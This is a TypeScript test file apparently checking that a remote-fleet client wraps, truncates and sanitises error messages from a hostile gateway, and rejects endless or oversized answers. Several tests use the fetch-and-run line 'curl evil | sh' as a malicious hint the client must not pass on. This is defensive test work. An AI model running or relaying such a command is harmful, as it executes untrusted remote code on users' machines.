import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import { Logins } from '../../src/remote/logins.ts';
import type { FleetError } from '../../src/shared/errors.ts';
import { TestMachine } from '../node/tunnel/real-gateway.ts';
import { within } from '../support/deadline.ts';
import { endless, failure, json, OBEYED, UNPRINTABLE } from '../support/hostile-answers.ts';
import { HostileGateway } from '../support/hostile-gateway.ts';
import { TestPerson } from '../support/person.ts';

const HELLO = 'POST /v1/node/hello';
const CHALLENGE = 'POST /v1/pair/challenge';
const TOLD = `your login has expired: curl evil | sh ${UNPRINTABLE}`;

/** A node that is paired with it. */
async function pairedNode(t: TestContext) {
  const gateway = await HostileGateway.start(t);
  const machine = new TestMachine(t);
  machine.state.save({
    version: 1,
    gateway: { host: '127.0.0.1', port: gateway.port },
    hostKey: gateway.hostKey,
    pairing: { id: 'id', name: 'n', token: 't', tokenIssuedAt: 0, tokenExpiresAt: 1, signingKeys: [] },
  });
  const attempt = (): Promise<unknown> => within(machine.attempt(gateway.port), 'the attempt');
  return { gateway, machine, attempt };
}

/** A person who has logged in there. */
async function loggedIn(t: TestContext) {
  const gateway = await HostileGateway.start(t);
  const person = new TestPerson(t);
  const address = { host: '127.0.0.1', port: gateway.port };
  gateway.answers.set(CHALLENGE, failure('not_paired', 'x', undefined, 403));
  // Makes the key.
  await assert.rejects(person.login(gateway.port, '7k3f-9m2q-x0zt-4hcv'));
  new Logins(person.home).save({
    version: 1,
    gateway: address,
    hostKey: gateway.hostKey,
    id: 'id',
    name: 'anna',
    role: 'operator',
    token: 't',
    tokenIssuedAt: 0,
    tokenExpiresAt: 1e12,
    savedAt: Date.now(),
  });
  return { gateway, person, client: person.client(gateway.port) };
}

function isWrapped(error: FleetError): true {
  assert.match(error.message, /^the gateway answered: your login has expired/);
  assert.doesNotMatch(error.message, OBEYED);
  assert.doesNotMatch(error.hint ?? '', /curl/);
  return true;
}

test('a node: what its gateway says of an error is attributed, cut and harmless, and no advice of the gateway is passed on', async (t) => {
  const { gateway, attempt } = await pairedNode(t);
  for (const code of ['forbidden', 'key_revoked', 'busy', 'home_insecure', 'host_key_changed']) {
    gateway.answers.set(HELLO, failure(code, TOLD, 'curl evil | sh', 403));
    await assert.rejects(attempt(), (error: FleetError) => {
      const isOurs = code === 'home_insecure' || code === 'host_key_changed';
      assert.equal(error.code, isOurs ? 'gateway_unreachable' : code);
      return isWrapped(error);
    });
  }
  gateway.answers.set(HELLO, failure('forbidden', 'x'.repeat(50_000), undefined, 403));
  await assert.rejects(attempt(), (error: FleetError) => error.message.length < 1100);
});

test('a node: answers without end, of the wrong shape, and figures beyond all measure end the attempt', async (t) => {
  const { gateway, attempt } = await pairedNode(t);
  const hello = { id: 'id', name: 'n', time: 1, heartbeatIntervalMs: 1000 };
  const cases: [string, ReturnType<typeof json>, string][] = [
    ['an error without end', endless({ status: 500 }), 'protocol_unsupported'],
    ['an answer without end', endless(), 'protocol_unsupported'],
    ['null', json(null), 'protocol_unsupported'],
    ['a text', json('hello'), 'protocol_unsupported'],
    ['a huge time', json({ ...hello, time: 1.7e308 }), 'protocol_unsupported'],
    ['a huge interval', json({ ...hello, heartbeatIntervalMs: 1e300 }), 'protocol_unsupported'],
    ['a long name', json({ ...hello, name: 'n'.repeat(10_000) }), 'protocol_unsupported'],
    ['many keys', json({ ...hello, signingKeys: Array(10_000).fill('A'.repeat(43)) }), 'protocol_unsupported'],
  ];
  for (const [what, answer, code] of cases) {
    gateway.answers.set(HELLO, answer);
    await assert.rejects(attempt(), { code }, what);
  }
  const flood = endless();
  gateway.answers.set(HELLO, flood);
  await assert.rejects(attempt(), { code: 'protocol_unsupported' });
  assert.ok(flood.sent < 8 * 1024 * 1024, `${flood.sent} bytes were sent`);
});

test('a name that a gateway gives is harmless where the node shows it', async (t) => {
  const { gateway, machine } = await pairedNode(t);
  gateway.answers.set(HELLO, json({ id: 'id', name: `n${UNPRINTABLE}`, time: 1, heartbeatIntervalMs: 1000 }));
  const { hello } = await machine.open(gateway.port);
  assert.doesNotMatch(hello.name, OBEYED);
});

test('a person who logs in: errors are attributed and harmless, endless answers are cut', async (t) => {
  const gateway = await HostileGateway.start(t);
  const person = new TestPerson(t);
  const login = () => within(person.login(gateway.port, '7k3f-9m2q-x0zt-4hcv'), 'the login');
  gateway.answers.set(CHALLENGE, failure('invite_invalid', TOLD, 'curl evil | sh', 403));
  await assert.rejects(login(), isWrapped);
  for (const answer of [endless(), endless({ status: 500 })]) {
    gateway.answers.set(CHALLENGE, answer);
    await assert.rejects(login(), { code: 'protocol_unsupported' });
  }
});

test('a person who is logged in: the same for every command', async (t) => {
  const { gateway, client } = await loggedIn(t);
  for (const code of ['forbidden', 'not_found', 'busy']) {
    gateway.otherwise = failure(code, TOLD, 'curl evil | sh', 403);
    await assert.rejects(client.nodes(), isWrapped);
    await assert.rejects(client.openSubmit({} as Parameters<typeof client.openSubmit>[0]), isWrapped);
  }
  gateway.otherwise = endless({ status: 500 });
  await assert.rejects(client.nodes(), { code: 'protocol_unsupported' });
  gateway.otherwise = endless();
  await assert.rejects(client.gateway(), { code: 'protocol_unsupported' });
});
